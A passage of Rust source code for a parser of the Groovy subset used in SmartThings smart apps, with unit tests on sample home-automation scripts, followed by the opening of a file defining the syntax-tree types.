                    args,
                    closure,
                    safe: false,
                    span,
                }));
            }
        }

        let expr = self.parse_expr()?;
        let op = match self.peek() {
            TokenKind::Assign => Some(AssignOp::Assign),
            TokenKind::PlusAssign => Some(AssignOp::AddAssign),
            TokenKind::MinusAssign => Some(AssignOp::SubAssign),
            TokenKind::StarAssign => Some(AssignOp::MulAssign),
            TokenKind::SlashAssign => Some(AssignOp::DivAssign),
            _ => None,
        };
        if let Some(op) = op {
            self.bump();
            self.skip_newlines();
            let value = self.parse_expr()?;
            let span = expr.span().merge(value.span());
            return Ok(Stmt::Assign { target: expr, op, value, span });
        }
        // Postfix `x++` / `x--` as statements become `x += 1` / `x -= 1`.
        if matches!(self.peek(), TokenKind::PlusPlus | TokenKind::MinusMinus) {
            let op = if self.at(&TokenKind::PlusPlus) {
                AssignOp::AddAssign
            } else {
                AssignOp::SubAssign
            };
            let span = expr.span().merge(self.peek_span());
            self.bump();
            return Ok(Stmt::Assign { target: expr, op, value: Expr::Int(1, span), span });
        }
        Ok(Stmt::Expr(expr))
    }

    /// True when the current identifier begins a paren-less command call.
    fn is_command_call_start(&self) -> bool {
        if !matches!(self.peek(), TokenKind::Ident(_)) {
            return false;
        }
        match self.peek_at(1) {
            // `ident "literal"` , `ident 42`, `ident ident, ...`, `ident [..]`
            TokenKind::Str(_) | TokenKind::Int(_) | TokenKind::Decimal(_) | TokenKind::Bool(_) => {
                true
            }
            TokenKind::Ident(_) => {
                // `foo bar` is only a command call when followed by a comma or
                // colon (named arg) or end of statement: `unschedule handler`.
                matches!(
                    self.peek_at(2),
                    TokenKind::Comma
                        | TokenKind::Colon
                        | TokenKind::Newline
                        | TokenKind::Semicolon
                        | TokenKind::RBrace
                        | TokenKind::Eof
                )
            }
            _ => false,
        }
    }

    fn parse_call_args_no_parens(&mut self) -> Result<Vec<Arg>> {
        let mut args = Vec::new();
        loop {
            args.push(self.parse_arg()?);
            if !self.eat(&TokenKind::Comma) {
                break;
            }
            self.skip_newlines();
        }
        Ok(args)
    }

    fn parse_arg(&mut self) -> Result<Arg> {
        // Named argument: `name: expr` or `"name": expr`.
        let named = match (self.peek(), self.peek_at(1)) {
            (TokenKind::Ident(n), TokenKind::Colon) => Some(n.clone()),
            (TokenKind::Str(n), TokenKind::Colon) => Some(n.clone()),
            _ => None,
        };
        if let Some(name) = named {
            self.bump();
            self.bump();
            self.skip_newlines();
            let value = self.parse_expr()?;
            Ok(Arg::Named(name, value))
        } else {
            Ok(Arg::Positional(self.parse_expr()?))
        }
    }

    // ---- expressions ----------------------------------------------------

    fn parse_expr(&mut self) -> Result<Expr> {
        self.parse_ternary()
    }

    fn parse_ternary(&mut self) -> Result<Expr> {
        let cond = self.parse_or()?;
        if self.eat(&TokenKind::Question) {
            self.skip_newlines();
            let then = self.parse_ternary()?;
            self.skip_newlines();
            self.expect(&TokenKind::Colon)?;
            self.skip_newlines();
            let els = self.parse_ternary()?;
            let span = cond.span().merge(els.span());
            return Ok(Expr::Ternary {
                cond: Box::new(cond),
                then: Box::new(then),
                els: Box::new(els),
                span,
            });
        }
        if self.eat(&TokenKind::Elvis) {
            self.skip_newlines();
            let fallback = self.parse_ternary()?;
            let span = cond.span().merge(fallback.span());
            return Ok(Expr::Elvis { value: Box::new(cond), fallback: Box::new(fallback), span });
        }
        Ok(cond)
    }

    fn parse_or(&mut self) -> Result<Expr> {
        let mut lhs = self.parse_and()?;
        while self.at(&TokenKind::OrOr) {
            self.bump();
            self.skip_newlines();
            let rhs = self.parse_and()?;
            let span = lhs.span().merge(rhs.span());
            lhs = Expr::Binary { op: BinOp::Or, lhs: Box::new(lhs), rhs: Box::new(rhs), span };
        }
        Ok(lhs)
    }

    fn parse_and(&mut self) -> Result<Expr> {
        let mut lhs = self.parse_equality()?;
        while self.at(&TokenKind::AndAnd) {
            self.bump();
            self.skip_newlines();
            let rhs = self.parse_equality()?;
            let span = lhs.span().merge(rhs.span());
            lhs = Expr::Binary { op: BinOp::And, lhs: Box::new(lhs), rhs: Box::new(rhs), span };
        }
        Ok(lhs)
    }

    fn parse_equality(&mut self) -> Result<Expr> {
        let mut lhs = self.parse_relational()?;
        loop {
            let op = match self.peek() {
                TokenKind::EqEq => BinOp::Eq,
                TokenKind::NotEq => BinOp::NotEq,
                _ => break,
            };
            self.bump();
            self.skip_newlines();
            let rhs = self.parse_relational()?;
            let span = lhs.span().merge(rhs.span());
            lhs = Expr::Binary { op, lhs: Box::new(lhs), rhs: Box::new(rhs), span };
        }
        Ok(lhs)
    }

    fn parse_relational(&mut self) -> Result<Expr> {
        let mut lhs = self.parse_range()?;
        loop {
            let op = match self.peek() {
                TokenKind::Lt => BinOp::Lt,
                TokenKind::Le => BinOp::Le,
                TokenKind::Gt => BinOp::Gt,
                TokenKind::Ge => BinOp::Ge,
                TokenKind::Compare => BinOp::Compare,
                TokenKind::In => BinOp::In,
                TokenKind::Instanceof => {
                    self.bump();
                    let ty = self.parse_type_name()?;
                    // `x instanceof T` is approximated as a truthy check that
                    // the translator can refine; represent it as a cast used in
                    // boolean position.
                    let span = lhs.span();
                    lhs = Expr::Cast { expr: Box::new(lhs), ty, span };
                    continue;
                }
                TokenKind::As => {
                    self.bump();
                    let ty = self.parse_type_name()?;
                    let span = lhs.span();
                    lhs = Expr::Cast { expr: Box::new(lhs), ty, span };
                    continue;
                }
                _ => break,
            };
            self.bump();
            self.skip_newlines();
            let rhs = self.parse_range()?;
            let span = lhs.span().merge(rhs.span());
            lhs = Expr::Binary { op, lhs: Box::new(lhs), rhs: Box::new(rhs), span };
        }
        Ok(lhs)
    }

    fn parse_range(&mut self) -> Result<Expr> {
        let lhs = self.parse_additive()?;
        if self.eat(&TokenKind::Range) {
            let rhs = self.parse_additive()?;
            let span = lhs.span().merge(rhs.span());
            return Ok(Expr::Range { from: Box::new(lhs), to: Box::new(rhs), span });
        }
        Ok(lhs)
    }

    fn parse_additive(&mut self) -> Result<Expr> {
        let mut lhs = self.parse_multiplicative()?;
        loop {
            let op = match self.peek() {
                TokenKind::Plus => BinOp::Add,
                TokenKind::Minus => BinOp::Sub,
                _ => break,
            };
            self.bump();
            self.skip_newlines();
            let rhs = self.parse_multiplicative()?;
            let span = lhs.span().merge(rhs.span());
            lhs = Expr::Binary { op, lhs: Box::new(lhs), rhs: Box::new(rhs), span };
        }
        Ok(lhs)
    }

    fn parse_multiplicative(&mut self) -> Result<Expr> {
        let mut lhs = self.parse_unary()?;
        loop {
            let op = match self.peek() {
                TokenKind::Star => BinOp::Mul,
                TokenKind::Slash => BinOp::Div,
                TokenKind::Percent => BinOp::Mod,
                _ => break,
            };
            self.bump();
            self.skip_newlines();
            let rhs = self.parse_unary()?;
            let span = lhs.span().merge(rhs.span());
            lhs = Expr::Binary { op, lhs: Box::new(lhs), rhs: Box::new(rhs), span };
        }
        Ok(lhs)
    }

    fn parse_unary(&mut self) -> Result<Expr> {
        match self.peek() {
            TokenKind::Not => {
                let start = self.bump().span;
                let operand = self.parse_unary()?;
                let span = start.merge(operand.span());
                Ok(Expr::Unary { op: UnOp::Not, operand: Box::new(operand), span })
            }
            TokenKind::Minus => {
                let start = self.bump().span;
                let operand = self.parse_unary()?;
                let span = start.merge(operand.span());
                Ok(Expr::Unary { op: UnOp::Neg, operand: Box::new(operand), span })
            }
            _ => self.parse_postfix(),
        }
    }

    fn parse_postfix(&mut self) -> Result<Expr> {
        let mut expr = self.parse_primary()?;
        loop {
            match self.peek() {
                TokenKind::Dot | TokenKind::SafeDot | TokenKind::SpreadDot => {
                    let safe = self.at(&TokenKind::SafeDot);
                    self.bump();
                    self.skip_newlines();
                    let (name, nspan) = self.expect_ident()?;
                    if self.at(&TokenKind::LParen) {
                        let args = self.parse_paren_args()?;
                        let closure = if self.at(&TokenKind::LBrace) {
                            Some(Box::new(self.parse_closure()?))
                        } else {
                            None
                        };
                        let span = expr.span().merge(nspan);
                        expr = Expr::MethodCall {
                            object: Some(Box::new(expr)),
                            name,
                            args,
                            closure,
                            safe,
                            span,
                        };
                    } else if self.at(&TokenKind::LBrace) {
                        // Trailing-closure-only call: `list.each { ... }`.
                        let closure = self.parse_closure()?;
                        let span = expr.span().merge(closure.span());
                        expr = Expr::MethodCall {
                            object: Some(Box::new(expr)),
                            name,
                            args: Vec::new(),
                            closure: Some(Box::new(closure)),
                            safe,
                            span,
                        };
                    } else {
                        let span = expr.span().merge(nspan);
                        expr = Expr::Property { object: Box::new(expr), name, safe, span };
                    }
                }
                TokenKind::LBracket => {
                    self.bump();
                    self.skip_newlines();
                    let index = self.parse_expr()?;
                    self.skip_newlines();
                    let close = self.expect(&TokenKind::RBracket)?;
                    let span = expr.span().merge(close.span);
                    expr = Expr::Index { object: Box::new(expr), index: Box::new(index), span };
                }
                TokenKind::LParen => {
                    // Call on a bare name: `foo(args)`.
                    if let Expr::Var(name, span) = expr.clone() {
                        let args = self.parse_paren_args()?;
                        let closure = if self.at(&TokenKind::LBrace) {
                            Some(Box::new(self.parse_closure()?))
                        } else {
                            None
                        };
                        expr = Expr::MethodCall {
                            object: None,
                            name,
                            args,
                            closure,
                            safe: false,
                            span,
                        };
                    } else {
                        break;
                    }
                }
                TokenKind::LBrace => {
                    // Bare name followed by a closure: `preferences { ... }`.
                    if let Expr::Var(name, span) = expr.clone() {
                        let closure = self.parse_closure()?;
                        expr = Expr::MethodCall {
                            object: None,
                            name,
                            args: Vec::new(),
                            closure: Some(Box::new(closure)),
                            safe: false,
                            span,
                        };
                    } else {
                        break;
                    }
                }
                _ => break,
            }
        }
        Ok(expr)
    }

    fn parse_paren_args(&mut self) -> Result<Vec<Arg>> {
        self.expect(&TokenKind::LParen)?;
        let mut args = Vec::new();
        self.skip_newlines();
        while !self.at(&TokenKind::RParen) {
            args.push(self.parse_arg()?);
            self.skip_newlines();
            if !self.eat(&TokenKind::Comma) {
                break;
            }
            self.skip_newlines();
        }
        self.expect(&TokenKind::RParen)?;
        Ok(args)
    }

    fn parse_closure(&mut self) -> Result<Expr> {
        let open = self.expect(&TokenKind::LBrace)?;
        self.skip_separators();
        // Detect a parameter list: `ident (, ident)* ->` or `->`.
        let save = self.pos;
        let mut params = Vec::new();
        let mut has_params = false;
        if self.at(&TokenKind::Arrow) {
            self.bump();
            has_params = true; // explicit zero-arg closure `{ -> ... }`
        } else if matches!(self.peek(), TokenKind::Ident(_) | TokenKind::Def) {
            loop {
                if self.at(&TokenKind::Def) {
                    self.bump();
                }
                // Optionally typed parameter.
                if matches!(self.peek(), TokenKind::Ident(_))
                    && matches!(self.peek_at(1), TokenKind::Ident(_))
                {
                    let _ty = self.parse_type_name();
                }
                match self.peek().clone() {
                    TokenKind::Ident(name) => {
                        params.push(Param::simple(name));
                        self.bump();
                    }
                    _ => break,
                }
                if self.eat(&TokenKind::Comma) {
                    continue;
                }
                break;
            }
            if self.eat(&TokenKind::Arrow) {
                has_params = true;
            }
        }
        if !has_params {
            self.pos = save;
            params.clear();
        }
        let mut stmts = Vec::new();
        self.skip_separators();
        while !self.at(&TokenKind::RBrace) {
            if self.at(&TokenKind::Eof) {
                return Err(ParseError::new("unterminated closure", open.span));
            }
            stmts.push(self.parse_stmt()?);
            self.skip_separators();
        }
        let close = self.expect(&TokenKind::RBrace)?;
        let span = open.span.merge(close.span);
        Ok(Expr::Closure { params, body: Block { stmts, span }, span })
    }

    fn parse_primary(&mut self) -> Result<Expr> {
        let span = self.peek_span();
        match self.peek().clone() {
            TokenKind::Int(v) => {
                self.bump();
                Ok(Expr::Int(v, span))
            }
            TokenKind::Decimal(v) => {
                self.bump();
                Ok(Expr::Decimal(v, span))
            }
            TokenKind::Bool(b) => {
                self.bump();
                Ok(Expr::Bool(b, span))
            }
            TokenKind::Null => {
                self.bump();
                Ok(Expr::Null(span))
            }
            TokenKind::Str(s) => {
                self.bump();
                parse_string_literal(&s, span)
            }
            TokenKind::Ident(name) => {
                self.bump();
                Ok(Expr::Var(name, span))
            }
            TokenKind::New => {
                self.bump();
                let ty = self.parse_type_name()?;
                let args =
                    if self.at(&TokenKind::LParen) { self.parse_paren_args()? } else { Vec::new() };
                Ok(Expr::New { ty, args, span })
            }
            TokenKind::LParen => {
                self.bump();
                self.skip_newlines();
                let e = self.parse_expr()?;
                self.skip_newlines();
                self.expect(&TokenKind::RParen)?;
                Ok(e)
            }
            TokenKind::LBracket => self.parse_list_or_map(),
            TokenKind::LBrace => self.parse_closure(),
            other => Err(ParseError::new(format!("unexpected token {other} in expression"), span)),
        }
    }

    fn parse_list_or_map(&mut self) -> Result<Expr> {
        let open = self.expect(&TokenKind::LBracket)?;
        self.skip_newlines();
        // `[:]` — empty map.
        if self.at(&TokenKind::Colon) && *self.peek_at(1) == TokenKind::RBracket {
            self.bump();
            let close = self.bump();
            return Ok(Expr::MapLit(Vec::new(), open.span.merge(close.span)));
        }
        if self.at(&TokenKind::RBracket) {
            let close = self.bump();
            return Ok(Expr::ListLit(Vec::new(), open.span.merge(close.span)));
        }
        // Map literal when the first entry is `key: value`.
        let is_map = matches!(
            (self.peek(), self.peek_at(1)),
            (TokenKind::Ident(_), TokenKind::Colon) | (TokenKind::Str(_), TokenKind::Colon)
        );
        if is_map {
            let mut entries = Vec::new();
            loop {
                let key = match self.peek().clone() {
                    TokenKind::Ident(k) => {
                        self.bump();
                        k
                    }
                    TokenKind::Str(k) => {
                        self.bump();
                        k
                    }
                    other => {
                        return Err(ParseError::new(
                            format!("expected map key, found {other}"),
                            self.peek_span(),
                        ))
                    }
                };
                self.expect(&TokenKind::Colon)?;
                self.skip_newlines();
                let value = self.parse_expr()?;
                entries.push((key, value));
                self.skip_newlines();
                if !self.eat(&TokenKind::Comma) {
                    break;
                }
                self.skip_newlines();
            }
            let close = self.expect(&TokenKind::RBracket)?;
            Ok(Expr::MapLit(entries, open.span.merge(close.span)))
        } else {
            let mut items = Vec::new();
            loop {
                items.push(self.parse_expr()?);
                self.skip_newlines();
                if !self.eat(&TokenKind::Comma) {
                    break;
                }
                self.skip_newlines();
            }
            let close = self.expect(&TokenKind::RBracket)?;
            Ok(Expr::ListLit(items, open.span.merge(close.span)))
        }
    }
}

/// Splits a raw string literal into GString parts, parsing `${...}`
/// interpolations as expressions and `$ident` shorthand as variable lookups.
fn parse_string_literal(raw: &str, span: Span) -> Result<Expr> {
    if !raw.contains('$') {
        return Ok(Expr::Str(raw.to_string(), span));
    }
    let mut parts: Vec<GStringPart> = Vec::new();
    let mut text = String::new();
    let bytes = raw.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'$' && i + 1 < bytes.len() && bytes[i + 1] == b'{' {
            if !text.is_empty() {
                parts.push(GStringPart::Text(std::mem::take(&mut text)));
            }
            // Find the matching close brace.
            let mut depth = 1;
            let mut j = i + 2;
            while j < bytes.len() && depth > 0 {
                match bytes[j] {
                    b'{' => depth += 1,
                    b'}' => depth -= 1,
                    _ => {}
                }
                j += 1;
            }
            if depth != 0 {
                return Err(ParseError::new("unterminated ${...} interpolation", span));
            }
            let inner = &raw[i + 2..j - 1];
            let expr = parse_expression(inner).map_err(|e| {
                ParseError::new(format!("in string interpolation: {}", e.message), span)
            })?;
            parts.push(GStringPart::Interp(expr));
            i = j;
        } else if bytes[i] == b'$'
            && i + 1 < bytes.len()
            && (bytes[i + 1].is_ascii_alphabetic() || bytes[i + 1] == b'_')
        {
            if !text.is_empty() {
                parts.push(GStringPart::Text(std::mem::take(&mut text)));
            }
            let mut j = i + 1;
            // `$a.b.c` shorthand: identifiers joined by dots.
            while j < bytes.len()
                && (bytes[j].is_ascii_alphanumeric() || bytes[j] == b'_' || bytes[j] == b'.')
            {
                j += 1;
            }
            let path = raw[i + 1..j].trim_end_matches('.');
            let expr = parse_expression(path).map_err(|e| {
                ParseError::new(format!("in string interpolation: {}", e.message), span)
            })?;
            parts.push(GStringPart::Interp(expr));
            i = i + 1 + path.len();
        } else {
            text.push(bytes[i] as char);
            i += 1;
        }
    }
    if !text.is_empty() {
        parts.push(GStringPart::Text(text));
    }
    // A string whose interpolations all turned out to be plain text.
    if parts.iter().all(|p| matches!(p, GStringPart::Text(_))) {
        return Ok(Expr::Str(raw.to_string(), span));
    }
    Ok(Expr::GString(parts, span))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_definition_block() {
        let src = r#"
definition(
    name: "Brighten Dark Places",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn your lights on when a contact sensor opens and it is dark."
)
"#;
        let script = parse(src).unwrap();
        assert_eq!(script.items.len(), 1);
        let Item::Stmt(Stmt::Expr(Expr::MethodCall { name, args, .. })) = &script.items[0] else {
            panic!("expected definition call");
        };
        assert_eq!(name, "definition");
        assert_eq!(args.len(), 4);
        assert!(matches!(&args[0], Arg::Named(k, _) if k == "name"));
    }

    #[test]
    fn parses_preferences_with_inputs() {
        let src = r#"
preferences {
    section("Choose a temperature sensor ... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
}
"#;
        let script = parse(src).unwrap();
        let Item::Stmt(Stmt::Expr(Expr::MethodCall { name, closure, .. })) = &script.items[0]
        else {
            panic!("expected preferences call");
        };
        assert_eq!(name, "preferences");
        let Expr::Closure { body, .. } = closure.as_deref().unwrap() else {
            panic!("expected closure")
        };
        assert_eq!(body.stmts.len(), 3);
    }

    #[test]
    fn parses_event_handler_method() {
        let src = r#"
def motionActiveHandler(evt) {
    if (evt.value == "active") {
        switches.on()
    } else {
        switches.off()
    }
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("motionActiveHandler").unwrap();
        assert_eq!(m.params.len(), 1);
        assert_eq!(m.body.stmts.len(), 1);
        assert!(matches!(m.body.stmts[0], Stmt::If { .. }));
    }

    #[test]
    fn parses_subscribe_and_schedule_calls() {
        let src = r#"
def initialize() {
    subscribe(motionSensor, "motion.active", motionActiveHandler)
    subscribe(contact, "contact", contactHandler)
    schedule("0 0 22 * * ?", goodNight)
    runIn(60 * minutes, checkMotion)
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("initialize").unwrap();
        assert_eq!(m.body.stmts.len(), 4);
    }

    #[test]
    fn parses_typed_method_and_list_plus() {
        let src = r#"
private onSwitches() {
    switches + onSwitches
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("onSwitches").unwrap();
        assert!(m.modifiers.private);
        assert!(matches!(m.body.stmts[0], Stmt::Expr(Expr::Binary { op: BinOp::Add, .. })));
    }

    #[test]
    fn parses_closures_with_params_and_it() {
        let src = r#"
def allOff() {
    switches.each { it.off() }
    switches.findAll { s -> s.currentSwitch == "on" }.each { s -> s.off() }
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("allOff").unwrap();
        assert_eq!(m.body.stmts.len(), 2);
    }

    #[test]
    fn parses_gstring_interpolation() {
        let e = parse_expression(r#""Temperature is ${evt.doubleValue} degrees""#).unwrap();
        let Expr::GString(parts, _) = e else { panic!("expected gstring") };
        assert_eq!(parts.len(), 3);
        assert!(matches!(parts[1], GStringPart::Interp(_)));
    }

    #[test]
    fn parses_dollar_ident_interpolation() {
        let e = parse_expression(r#""mode is $location.mode now""#).unwrap();
        let Expr::GString(parts, _) = e else { panic!("expected gstring") };
        assert!(matches!(&parts[1], GStringPart::Interp(Expr::Property { .. })));
    }

    #[test]
    fn parses_map_and_list_literals() {
        let e =
            parse_expression(r#"[name: "smoke", value: "detected", isStateChange: true]"#).unwrap();
        let Expr::MapLit(entries, _) = e else { panic!("expected map") };
        assert_eq!(entries.len(), 3);

        let e = parse_expression(r#"[1, 2, 3]"#).unwrap();
        assert!(matches!(e, Expr::ListLit(ref items, _) if items.len() == 3));

        assert!(matches!(parse_expression("[:]").unwrap(), Expr::MapLit(ref v, _) if v.is_empty()));
        assert!(matches!(parse_expression("[]").unwrap(), Expr::ListLit(ref v, _) if v.is_empty()));
    }

    #[test]
    fn parses_ternary_and_elvis() {
        let e = parse_expression(r#"mode == "cool" ? 1 : 0"#).unwrap();
        assert!(matches!(e, Expr::Ternary { .. }));
        let e = parse_expression(r#"settings.minutes ?: 10"#).unwrap();
        assert!(matches!(e, Expr::Elvis { .. }));
    }

    #[test]
    fn parses_safe_navigation() {
        let e = parse_expression("motion?.currentMotion").unwrap();
        assert!(matches!(e, Expr::Property { safe: true, .. }));
    }

    #[test]
    fn parses_operator_precedence() {
        let e = parse_expression("a + b * c").unwrap();
        let Expr::Binary { op: BinOp::Add, rhs, .. } = e else { panic!() };
        assert!(matches!(*rhs, Expr::Binary { op: BinOp::Mul, .. }));

        let e = parse_expression("a || b && c").unwrap();
        let Expr::Binary { op: BinOp::Or, rhs, .. } = e else { panic!() };
        assert!(matches!(*rhs, Expr::Binary { op: BinOp::And, .. }));
    }

    #[test]
    fn parses_cast_and_new() {
        let e = parse_expression("settings.setpoint as BigDecimal").unwrap();
        assert!(matches!(e, Expr::Cast { .. }));
        let e = parse_expression("new Date()").unwrap();
        assert!(matches!(e, Expr::New { .. }));
    }

    #[test]
    fn parses_for_in_and_while() {
        let src = r#"
def loopy() {
    for (s in switches) {
        s.off()
    }
    def i = 0
    while (i < 10) {
        i = i + 1
    }
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("loopy").unwrap();
        assert!(matches!(m.body.stmts[0], Stmt::ForIn { .. }));
        assert!(matches!(m.body.stmts[2], Stmt::While { .. }));
    }

    #[test]
    fn parses_switch_statement() {
        let src = r#"
def modeHandler(evt) {
    switch (evt.value) {
        case "Home":
            lock.unlock()
            break
        case "Away":
            lock.lock()
            break
        default:
            log.debug "unknown"
    }
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("modeHandler").unwrap();
        let Stmt::Switch { cases, default, .. } = &m.body.stmts[0] else { panic!() };
        assert_eq!(cases.len(), 2);
        assert!(default.is_some());
    }

    #[test]
    fn parses_command_call_without_parens() {
        let src = r#"
def notifyUser() {
    sendPush "The door is open"
    sendSms phone, "Intruder detected"
    unschedule checkDoor
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("notifyUser").unwrap();
        assert_eq!(m.body.stmts.len(), 3);
        let Stmt::Expr(Expr::MethodCall { name, args, .. }) = &m.body.stmts[1] else { panic!() };
        assert_eq!(name, "sendSms");
        assert_eq!(args.len(), 2);
    }

    #[test]
    fn parses_assignments_and_compound_ops() {
        let src = r#"
def counter() {
    state.count = 0
    state.count += 1
    state.count++
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("counter").unwrap();
        assert!(matches!(m.body.stmts[0], Stmt::Assign { op: AssignOp::Assign, .. }));
        assert!(matches!(m.body.stmts[1], Stmt::Assign { op: AssignOp::AddAssign, .. }));
        assert!(matches!(m.body.stmts[2], Stmt::Assign { op: AssignOp::AddAssign, .. }));
    }

    #[test]
    fn parses_else_if_chain() {
        let src = r#"
def check(evt) {
    if (evt.value == "open") {
        light.on()
    } else if (evt.value == "closed") {
        light.off()
    } else {
        log.debug "other"
    }
}
"#;
        let script = parse(src).unwrap();
        let m = script.method("check").unwrap();
        let Stmt::If { else_block: Some(e), .. } = &m.body.stmts[0] else { panic!() };
        assert!(matches!(e.stmts[0], Stmt::If { .. }));
    }

    #[test]
    fn parses_try_catch() {
        let src = r#"
def risky() {
    try {
        httpPost(uri, body)
    } catch (e) {
        log.error "post failed"
    }
}
"#;
        let script = parse(src).unwrap();
        assert!(matches!(script.method("risky").unwrap().body.stmts[0], Stmt::TryCatch { .. }));
    }

    #[test]
    fn parses_virtual_thermostat_preferences() {
        // The exact preferences block from Figure 1 of the paper.
        let src = r#"
preferences {
    section("Choose a temperature sensor ... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional)") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes ...") {
        input "minutes", "number", title: "Minutes", required: false
    }
    section("But never go below (or above if A/C) this value with or without motion ...") {
        input "emergencySetpoint", "decimal", title: "Emer Temp", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}
"#;
        let script = parse(src).unwrap();
        assert_eq!(script.items.len(), 1);
    }

    #[test]
    fn error_reports_line() {
        let err = parse("def broken() {\n  if (x ==) { }\n}").unwrap_err();
        assert_eq!(err.span.line, 2);
    }

    #[test]
    fn parses_return_with_and_without_value() {
        let src = "def f() {\n return\n}\ndef g() {\n return 42\n}";
        let script = parse(src).unwrap();
        assert!(matches!(script.method("f").unwrap().body.stmts[0], Stmt::Return(None, _)));
        assert!(matches!(script.method("g").unwrap().body.stmts[0], Stmt::Return(Some(_), _)));
    }

    #[test]
    fn parses_index_and_range() {
        let e = parse_expression("switches[0]").unwrap();
        assert!(matches!(e, Expr::Index { .. }));
        let e = parse_expression("1..5").unwrap();
        assert!(matches!(e, Expr::Range { .. }));
    }

    #[test]
    fn parses_in_operator() {
        let e = parse_expression(r#"evt.value in ["open", "closed"]"#).unwrap();
        assert!(matches!(e, Expr::Binary { op: BinOp::In, .. }));
    }
}
