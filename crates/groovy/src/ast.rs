//! Abstract syntax tree for the Groovy subset used by SmartThings smart apps.
//!
//! The AST is deliberately close to Groovy's surface syntax: dynamic `def`
//! declarations, closures, list/map literals, GStrings and "command calls"
//! (paren-less calls such as `input "sensor", "capability.switch"`). The
//! downstream translator (`iotsan-ir`) performs type inference and lowering.

use crate::span::Span;
use std::fmt;

/// A parsed smart-app source file.
#[derive(Debug, Clone, PartialEq)]
pub struct Script {
    /// Top-level items in source order.
    pub items: Vec<Item>,
}

impl Script {
    /// All method declarations in the script.
    pub fn methods(&self) -> impl Iterator<Item = &MethodDecl> {
        self.items.iter().filter_map(|item| match item {
            Item::Method(m) => Some(m),
            _ => None,
        })
    }

    /// All top-level statements (everything that is not a method declaration).
    pub fn top_level_stmts(&self) -> impl Iterator<Item = &Stmt> {
        self.items.iter().filter_map(|item| match item {
            Item::Stmt(s) => Some(s),
            _ => None,
        })
    }

    /// Finds a method by name.
    pub fn method(&self, name: &str) -> Option<&MethodDecl> {
        self.methods().find(|m| m.name == name)
    }
}

/// A top-level item.
#[derive(Debug, Clone, PartialEq)]
pub enum Item {
    /// A method (event handler, helper, lifecycle hook).
    Method(MethodDecl),
    /// A top-level statement, e.g. a `definition(...)` call, a
    /// `preferences { ... }` block, or an `@Field` variable declaration.
    Stmt(Stmt),
}

/// Method modifiers; SmartThings apps use only a small set.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Modifiers {
    /// `private`
    pub private: bool,
    /// `static`
    pub is_static: bool,
}

/// A method declaration.
#[derive(Debug, Clone, PartialEq)]
pub struct MethodDecl {
    /// Method name, e.g. `motionActiveHandler`.
    pub name: String,
    /// Declared return type, if the developer wrote one (otherwise `def`).
    pub return_type: Option<TypeName>,
    /// Formal parameters.
    pub params: Vec<Param>,
    /// Method body.
    pub body: Block,
    /// Modifiers.
    pub modifiers: Modifiers,
    /// Source span of the declaration.
    pub span: Span,
}

/// A formal parameter of a method or closure.
#[derive(Debug, Clone, PartialEq)]
pub struct Param {
    /// Parameter name.
    pub name: String,
    /// Optional declared type.
    pub ty: Option<TypeName>,
    /// Optional default value.
    pub default: Option<Expr>,
}

impl Param {
    /// An untyped parameter with no default.
    pub fn simple(name: impl Into<String>) -> Self {
        Param { name: name.into(), ty: None, default: None }
    }
}

/// A (possibly array) type name such as `STSwitch[]` or `Map`.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct TypeName {
    /// Base name, e.g. `Integer`, `String`, `STSwitch`.
    pub name: String,
    /// Number of array dimensions (`[]` suffixes).
    pub array_dims: usize,
}

impl TypeName {
    /// Creates a scalar type name.
    pub fn simple(name: impl Into<String>) -> Self {
        TypeName { name: name.into(), array_dims: 0 }
    }
}

impl fmt::Display for TypeName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name)?;
        for _ in 0..self.array_dims {
            write!(f, "[]")?;
        }
        Ok(())
    }
}

/// A brace-delimited sequence of statements.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Block {
    /// Statements in source order.
    pub stmts: Vec<Stmt>,
    /// Source span.
    pub span: Span,
}

/// Compound assignment operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AssignOp {
    /// `=`
    Assign,
    /// `+=`
    AddAssign,
    /// `-=`
    SubAssign,
    /// `*=`
    MulAssign,
    /// `/=`
    DivAssign,
}

/// A statement.
#[derive(Debug, Clone, PartialEq)]
pub enum Stmt {
    /// An expression evaluated for its side effects (usually a call).
    Expr(Expr),
    /// `def x = e` or `Integer x = e` (also used for `@Field` declarations).
    VarDecl {
        /// Declared type, `None` for `def`.
        ty: Option<TypeName>,
        /// Variable name.
        name: String,
        /// Optional initializer.
        init: Option<Expr>,
        /// Source span.
        span: Span,
    },
    /// `target op= value`
    Assign {
        /// Assignment target (variable, property or index expression).
        target: Expr,
        /// The assignment operator.
        op: AssignOp,
        /// Right-hand side.
        value: Expr,
        /// Source span.
        span: Span,
    },
    /// `if (cond) { ... } else ...`
    If {
        /// Branch condition.
        cond: Expr,
        /// Then branch.
        then_block: Block,
        /// Optional else branch (an `else if` chain is nested blocks).
        else_block: Option<Block>,
        /// Source span.
        span: Span,
    },
    /// `while (cond) { ... }`
    While {
        /// Loop condition.
        cond: Expr,
        /// Loop body.
        body: Block,
        /// Source span.
